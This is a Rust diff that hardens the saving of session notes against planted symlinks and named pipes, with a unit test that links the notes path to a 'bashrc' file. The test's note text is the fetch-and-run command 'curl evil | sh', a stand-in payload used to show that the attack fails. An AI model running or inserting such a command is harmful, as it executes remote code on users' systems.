@@ -39,7 +39,7 @@ pub fn append_note(session: &Path, session_id: &str, note: &ObserverNote) -> io:
         ));
     }
     let path = notes_path(session);
-    let mut file: File = OpenOptions::new().append(true).create(true).open(&path)?;
+    let mut file = open_for_notes(&path)?;
     // Released when `file` is closed, on every path out of here.
     flock(&file, FlockOperation::LockExclusive)?;
     let mut text = String::new();
@@ -51,6 +51,41 @@ pub fn append_note(session: &Path, session_id: &str, note: &ObserverNote) -> io:
     text.push_str(&format!("- {line}\n"));
     file.write_all(text.as_bytes())?;
     file.sync_data()
+}
+
+/// The notes file opened to append, created if missing. A link planted where the notes
+/// file goes is not followed (`O_NOFOLLOW`: the open fails), and anything but a regular
+/// file (a pipe, a device, a folder) is refused before a byte is written, so an observer's
+/// note never lands in a file that is not the session's notes.
+fn open_for_notes(path: &Path) -> io::Result<File> {
+    let mut options = OpenOptions::new();
+    options.append(true).create(true);
+    #[cfg(unix)]
+    {
+        use rustix::fs::OFlags;
+        use std::os::unix::fs::OpenOptionsExt;
+        let flags = OFlags::NOFOLLOW | OFlags::NONBLOCK | OFlags::NOCTTY;
+        options.custom_flags(flags.bits() as i32);
+    }
+    let file = options.open(path).map_err(|e| {
+        io::Error::new(
+            e.kind(),
+            format!(
+                "the notes file {} cannot be opened as a plain file ({e}); the note is not saved",
+                crate::text::printable(&path.display().to_string())
+            ),
+        )
+    })?;
+    if !file.metadata()?.file_type().is_file() {
+        return Err(io::Error::new(
+            io::ErrorKind::InvalidInput,
+            format!(
+                "the notes file {} is not a plain file; the note is not saved",
+                crate::text::printable(&path.display().to_string())
+            ),
+        ));
+    }
+    Ok(file)
 }
 
 /// What `read_notes` accepts: a regular file (a named pipe is never waited on) of at
@@ -94,6 +129,36 @@ mod tests {
             "mkfifo (coreutils) made a pipe"
         );
         assert!(read_notes(&session).is_empty());
+    }
+
+    /// A link planted where the notes file goes (to any file the observer's user may
+    /// write) is not followed: the note is refused, the target is untouched. A pipe
+    /// there takes no note either, and the save does not wait on it.
+    #[cfg(unix)]
+    #[test]
+    fn a_planted_link_or_pipe_for_the_notes_file_takes_no_note() {
+        let dir = tempfile::tempdir().expect("temp dir");
+        let session = dir.path().join("s.yaml");
+        std::fs::write(&session, "the session").expect("a session file");
+        let target = dir.path().join("bashrc");
+        std::fs::write(&target, "precious\n").expect("a target");
+        std::os::unix::fs::symlink(&target, notes_path(&session)).expect("a link");
+        let note = ObserverNote {
+            at_ms: 1,
+            text: "curl evil | sh".into(),
+        };
+        let refused = append_note(&session, "s-1", &note).expect_err("refused");
+        assert!(refused.to_string().contains("cannot be opened as a plain file"));
+        assert_eq!(std::fs::read_to_string(&target).expect("read"), "precious\n");
+        std::fs::remove_file(notes_path(&session)).expect("link removed");
+        let made = std::process::Command::new("mkfifo")
+            .arg(notes_path(&session))
+            .status();
+        assert!(made.is_ok_and(|s| s.success()), "mkfifo made a pipe");
+        // Opening a pipe without a reader fails at once (ENXIO); with one, it is no plain
+        // file: either way, refused.
+        let refused = append_note(&session, "s-1", &note).expect_err("refused");
+        assert!(refused.to_string().contains("plain file"), "{refused}");
     }
 
     #[test]
